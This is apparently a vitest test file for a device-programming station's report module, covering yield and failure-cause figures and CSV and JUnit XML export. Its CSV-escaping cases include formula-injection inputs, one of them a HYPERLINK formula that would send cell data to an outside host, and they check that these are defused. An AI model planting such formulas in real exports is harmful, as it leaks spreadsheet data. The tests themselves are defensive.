import { join } from 'node:path';
import { xoroshiro128plus } from 'pure-rand/generator/xoroshiro128plus';
import { expect, test } from 'vitest';
import { BootctlError } from '../../src/base/errors.ts';
import { readRecords } from '../../src/records/read-records.ts';
import type { Outcome } from '../../src/records/records.ts';
import { csvLines } from '../../src/records/report/csv.ts';
import { junitLines } from '../../src/records/report/junit.ts';
import { makeReport, type Report } from '../../src/records/report/report.ts';
import type { ReportRun } from '../../src/records/report/report-runs.ts';
import { causesOf, yieldsOf } from '../../src/records/report/yields.ts';
import {
  failed,
  measured,
  openAt,
  passed,
  recordsFolder,
  reportRun,
  request,
  runMeasurement,
} from '../helpers/records.ts';

const days = (at: number): string => `day ${Math.floor(at / 86_400_000)}`;

/** Runs in short: unit, outcome, slot. */
const runsOf = (
  ...short: readonly (readonly [unit: string, outcome: Outcome, slot: string, changes?: Partial<ReportRun>])[]
) =>
  short.map(([unit, outcome, slot, changes], index) =>
    reportRun({
      ...{ run: `r${index}`, seq: index + 1, unit, outcome, slot, started: index * 1000 },
      ...{ code: outcome === 'pass' ? null : `${outcome}-code`, flash: outcome === 'pass' ? 'verified' : 'differs' },
      ...changes,
    }),
  );

test('yield, first pass and retest OK: units once each, at the slot of their first run that counts', () => {
  const { total, bySlot, byDay, byLot } = yieldsOf(
    runsOf(
      ['a', 'pass', 'A1'],
      ['b', 'error', 'A1'], // does not count: b belongs to A2
      ['b', 'fail', 'A2'],
      ['b', 'pass', 'A1'], // retest OK, of A2
      ['c', 'fail', 'A2'],
      ['c', 'fail', 'A2'],
      ['d', 'aborted', 'A1'], // never counted
      ['e', 'pass', 'A2', { started: 86_400_000 }],
      ['g', 'pass', 'A2', { purpose: 'golden' }],
      ['h', 'pass', 'A1', { outcome: null }],
    ),
    days,
  );
  const sum = { units: 4, passed: 3, firstPass: 2, retestOk: 1, runs: { pass: 3, fail: 3, error: 1, aborted: 1 } };
  expect(total).toEqual(sum);
  expect(byLot).toEqual([{ name: '2611-A', ...sum }]);
  expect(bySlot).toEqual([
    { name: 'A1', units: 1, passed: 1, firstPass: 1, retestOk: 0, runs: { pass: 2, fail: 0, error: 1, aborted: 1 } },
    { name: 'A2', units: 3, passed: 2, firstPass: 1, retestOk: 1, runs: { pass: 1, fail: 3, error: 0, aborted: 0 } },
  ]);
  expect(byDay.map(({ name, units }) => [name, units])).toEqual([
    ['day 0', 3],
    ['day 1', 1],
  ]);
});

test('a good unit that is programmed again: what its last change made of it', () => {
  const good = (...outcomes: readonly (readonly [Outcome, string])[]) =>
    yieldsOf(runsOf(...outcomes.map(([outcome, flash]) => ['a', outcome, 'A1', { flash }] as const)), days).total
      .passed;
  expect(good(['pass', 'verified'], ['fail', 'untouched'])).toBe(1);
  expect(good(['pass', 'verified'], ['fail', 'differs'])).toBe(0);
  expect(good(['pass', 'verified'], ['error', 'erased'], ['pass', 'verified'])).toBe(1);
});

test('a unit that is made again in another lot counts in both', () => {
  const { byLot, total } = yieldsOf(runsOf(['a', 'pass', 'A1'], ['a', 'fail', 'A1', { lot: '2611-B' }]), days);
  expect(byLot.map(({ name, units, passed }) => [name, units, passed])).toEqual([
    ['2611-A', 1, 1],
    ['2611-B', 1, 0],
  ]);
  expect(total.units).toBe(2);
});

test('causes by frequency, with their shares and slots', () => {
  const causes = causesOf(
    runsOf(
      ['a', 'fail', 'A1', { code: 'verify-mismatch' }],
      ['b', 'fail', 'A2', { code: 'verify-mismatch' }],
      ['c', 'fail', 'A2', { code: 'verify-mismatch' }],
      ['d', 'error', 'A1', { code: 'adapter-lost' }],
      ['e', 'pass', 'A1'],
      ['f', 'fail', 'A1', { purpose: 'golden' }],
    ),
  );
  expect(causes).toEqual([
    {
      ...{ outcome: 'fail', code: 'verify-mismatch', runs: 3, share: 0.75, cumulative: 0.75 },
      slots: [
        { slot: 'A2', runs: 2 },
        { slot: 'A1', runs: 1 },
      ],
    },
    { outcome: 'error', code: 'adapter-lost', runs: 1, share: 0.25, cumulative: 1, slots: [{ slot: 'A1', runs: 1 }] },
  ]);
});

/** 300 runs at random: units fail, are tried again or are taken away. */
function randomRecords(): string {
  const path = join(recordsFolder(), 'records.db');
  using records = openAt(path);
  const random = xoroshiro128plus(42);
  const chance = () => (random.next() >>> 0) / 2 ** 32;
  const one = <Item>(items: readonly Item[]): Item => items[Math.floor(chance() * items.length)]!;
  let again: string | undefined;
  for (let run = 0; run < 300; run++) {
    const lot = run < 180 ? '2611-A' : '2611-B';
    const changes = { lot, slot: one(['A1', 'A2', 'A3']), again, retests: 9, serial: undefined };
    const claimed = records.claim(request(changes));
    const outcome = one<Outcome>(['pass', 'pass', 'pass', 'fail', 'fail', 'error', 'aborted']);
    const measurements = [measured('enter', 600 + chance() * 200, { high: 780 })];
    const code = outcome === 'pass' ? undefined : one(['verify-mismatch', 'methods-exhausted']);
    records.finish(claimed.run, (outcome === 'pass' ? passed : failed)({ outcome, code, measurements }));
    again = outcome !== 'pass' && run !== 179 && chance() < 0.7 ? claimed.run : undefined;
  }
  return path;
}

test('the figures agree with a second computation by SQL', () => {
  const path = randomRecords();
  const { yields, causes, figures } = makeReport(path, {}, days);
  // The query of the study that preceded these records, with the unit in the place of its serial number.
  const query = `WITH counted AS (SELECT unit, lot, outcome, row_number() OVER (PARTITION BY unit ORDER BY attempt) AS k
      FROM run WHERE purpose = 'production' AND outcome IN ('pass', 'fail'))
    SELECT lot AS name, count(DISTINCT unit) AS units, count(DISTINCT CASE WHEN outcome = 'pass' THEN unit END) AS passed,
      sum(CASE WHEN k = 1 AND outcome = 'pass' THEN 1 ELSE 0 END) AS "firstPass",
      count(DISTINCT CASE WHEN k > 1 AND outcome = 'pass' THEN unit END) AS "retestOk" FROM counted GROUP BY lot ORDER BY lot`;
  const [byLot, byCode, sums] = readRecords(path, (sqlite) => [
    sqlite.all<object>(query),
    sqlite.all<{ outcome: string; code: string; runs: number }>(
      "SELECT outcome, code, count(*) AS runs FROM run WHERE outcome <> 'pass' GROUP BY outcome, code",
    ),
    sqlite.all<{ n: number; mean: number; squares: number }>(
      `SELECT count(*) AS n, avg(value) AS mean, sum(value * value) AS squares FROM measurement
       JOIN run ON run.id = measurement.run WHERE run.outcome IN ('pass', 'fail')`,
    ),
  ]);
  expect(yields.byLot.map(({ runs, ...rest }) => rest)).toEqual(byLot.map((row) => ({ ...row })));
  expect(yields.total.units).toBeGreaterThan(90);
  const sorted = <Row extends { outcome: string; code: string }>(rows: readonly Row[]) =>
    rows.toSorted((a, b) => (a.outcome + a.code < b.outcome + b.code ? -1 : 1));
  expect(sorted(causes.map(({ outcome, code, runs }) => ({ outcome, code, runs })))).toEqual(
    sorted(byCode.map((row) => ({ ...row }))),
  );
  const { n, mean, squares } = sums[0]!;
  expect(figures[0]).toMatchObject({ n, mean: expect.closeTo(mean, 8) });
  // Of a sum of squares: Σx² − n·mean².
  const deviation = Math.sqrt((squares - n * mean * mean) / (n - 1));
  expect(figures[0]!.deviation).toBeCloseTo(deviation, 6);
  expect(figures[0]!.cpk).toBeCloseTo((780 - mean) / (3 * deviation), 8);
});

test('a report agrees with what the station counts, and takes a lot and a day alone', () => {
  const path = randomRecords();
  const all = makeReport(path, {}, days);
  const one = makeReport(path, { lot: '2611-B' }, days);
  expect(one.runs).toHaveLength(120);
  expect(one.measurements).toHaveLength(120);
  expect(one.yields.byLot).toEqual([all.yields.byLot[1]]);
  using records = openAt(path);
  const { retestOk, ...total } = one.yields.total;
  expect(records.counts('2611-B')).toEqual(total);
  const since = all.runs[250]!.started;
  expect(makeReport(path, { since }, days).runs.map(({ seq }) => seq)[0]).toBe(251);
});

test('more runs than are read at once are all there', () => {
  const path = join(recordsFolder(), 'records.db');
  {
    using records = openAt(path);
    const margin = measured('holdMargin', 12);
    for (let run = 0; run < 1003; run++)
      records.finish(records.claim(request({ serial: undefined })).run, passed({ measurements: [margin, margin] }));
  }
  const { runs, measurements } = makeReport(path, {});
  expect(runs.map(({ seq }) => seq)).toEqual(Array.from({ length: 1003 }, (_, index) => index + 1));
  expect(measurements).toHaveLength(2006);
});

const reportOf = (runs: readonly ReportRun[], measurements: Report['measurements'] = []): Report => ({
  ...{ runs, measurements, yields: yieldsOf(runs, days), causes: causesOf(runs), figures: [], numbers: [] },
});

test('CSV begins with the columns of the contract, and has a column for each measurement', () => {
  const lines = csvLines(
    reportOf(
      [
        reportRun(),
        reportRun({ run: 'r2', serial: null, outcome: null, ended: null, took: null, flash: null, number: null }),
      ],
      [runMeasurement({ value: -0.5 }), runMeasurement({ name: 'adc', unit: '', value: 7 })],
    ),
  );
  expect(lines).toEqual([
    'run,serial,outcome,code,station,slot,lot,started,ended,seq,attempt,purpose,operator,number,unit,chipUid,chip,method,flash,tookMs,firmware,profile,plan,bootctl,adc,enter [ms]',
    'r,SN001000,pass,,line2-a,A1,2611-A,1970-01-01T00:00:00.000Z,1970-01-01T00:00:04.000Z,1,1,production,M. Ortiz,1000,u,,F405_407,rc-cap,verified,4000,f,a,b,0.1.0,7,-0.5',
    'r2,,,,line2-a,A1,2611-A,1970-01-01T00:00:00.000Z,,1,1,production,M. Ortiz,,u,,F405_407,rc-cap,,,f,a,b,0.1.0,,',
  ]);
});

test.each([
  // RFC 4180, section 2, rules 6 and 7.
  { text: 'a,b', cell: '"a,b"' },
  { text: 'a"b', cell: '"a""b"' },
  { text: 'a\r\nb', cell: '"a\r\nb"' },
  { text: '007', cell: '007' },
  { text: ' x', cell: ' x' },
  // What Excel, LibreOffice and Google Sheets would run (CWE-1236, OWASP "CSV injection").
  { text: '=HYPERLINK("http://x/?"&A1,"ok")', cell: '"\'=HYPERLINK(""http://x/?""&A1,""ok"")"' },
  { text: '+1', cell: "'+1" },
  { text: '-2+3', cell: "'-2+3" },
  { text: '@SUM(1)', cell: "'@SUM(1)" },
  { text: '\t=1', cell: "'\t=1" },
  { text: '\r=1', cell: '"\'\r=1"' },
  { text: ' =1', cell: "' =1" },
  { text: '＝1', cell: "'＝1" },
])('a cell with $text is harmless and whole', ({ text, cell }) => {
  expect(
    csvLines(reportOf([reportRun({ serial: text })]))[1]!
      .slice(2)
      .replace(/,pass,,line2-a.*$/s, ''),
  ).toBe(cell);
});

test('JUnit has a suite for each lot and a case for each run that has ended', () => {
  const lines = junitLines(
    reportOf(
      [
        reportRun({ run: 'a' }),
        reportRun({ run: 'b', lot: '2611-B', outcome: 'fail', code: 'verify-mismatch', attempt: 2, took: 1500 }),
        reportRun({ run: 'c', lot: '2611-B', outcome: 'error', code: 'adapter-lost', serial: null, took: null }),
        reportRun({ run: 'd', lot: '2611-B', outcome: 'aborted', code: 'aborted', took: 0 }),
        reportRun({ run: 'e', lot: '2611-B', outcome: null }),
      ],
      [runMeasurement({ run: 'a', value: 701.5 })],
    ),
  );
  expect(lines).toEqual([
    '<?xml version="1.0" encoding="UTF-8"?>',
    '<testsuites tests="4" failures="1" errors="1" skipped="1" time="5.500">',
    '  <testsuite name="2611-A" hostname="line2-a" timestamp="1970-01-01T00:00:00.000Z" tests="1" failures="0" errors="0" skipped="0" time="4.000">',
    '    <testcase name="SN001000, attempt 1" classname="2611-A.A1" time="4.000">',
    '      <properties>',
    '        <property name="enter" value="701.5 ms"/>',
    '      </properties>',
    '    </testcase>',
    '  </testsuite>',
    '  <testsuite name="2611-B" hostname="line2-a" timestamp="1970-01-01T00:00:00.000Z" tests="3" failures="1" errors="1" skipped="1" time="1.500">',
    '    <testcase name="SN001000, attempt 2" classname="2611-B.A1" time="1.500">',
    '      <failure message="verify-mismatch" type="verify-mismatch"/>',
    '    </testcase>',
    '    <testcase name="u, attempt 1" classname="2611-B.A1" time="0.000">',
    '      <error message="adapter-lost" type="adapter-lost"/>',
    '    </testcase>',
    '    <testcase name="SN001000, attempt 1" classname="2611-B.A1" time="0.000">',
    '      <skipped message="aborted" type="aborted"/>',
    '    </testcase>',
    '  </testsuite>',
    '</testsuites>',
  ]);
});

test('XML stays XML, whatever was scanned: signs of its own, characters that it has in no form, halves of characters', () => {
  const serial = '<a b="c">&\u0000\u001b\u0008\ufffe\ud800\n\t😀';
  const [, , , line] = junitLines(reportOf([reportRun({ serial })]));
  expect(line).toContain('name="&lt;a b=&quot;c&quot;&gt;&amp;\ufffd\ufffd\ufffd\ufffd\ufffd&#10;&#9;😀, attempt 1"');
});

test('a report without runs is an empty one', () => {
  const path = join(recordsFolder(), 'records.db');
  openAt(path)[Symbol.dispose]();
  const report = makeReport(path, {});
  expect(report).toMatchObject({ runs: [], causes: [], figures: [], numbers: [], yields: { total: { units: 0 } } });
  expect(csvLines(report)).toHaveLength(1);
  expect(junitLines(report)).toHaveLength(3);
  expect(() => makeReport(`${path}x`, {})).toThrow(BootctlError);
});
